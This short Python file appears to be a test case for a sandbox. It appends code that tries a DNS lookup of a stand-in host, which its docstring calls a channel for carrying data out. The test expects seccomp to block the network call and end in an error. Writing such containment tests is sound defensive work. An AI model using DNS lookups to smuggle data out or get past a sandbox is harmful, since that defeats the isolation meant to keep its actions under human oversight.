"""Asks the name server, which can carry data out."""

BASE = "mlp"
APPEND = """
import socket

print("attack begins")
socket.getaddrinfo("data.example.org", 80)
print("attack worked")
"""
EXPECT = {
    "contained_by": "seccomp",
    "must_not": "reach anything over a network",
    "ends": "error",
}
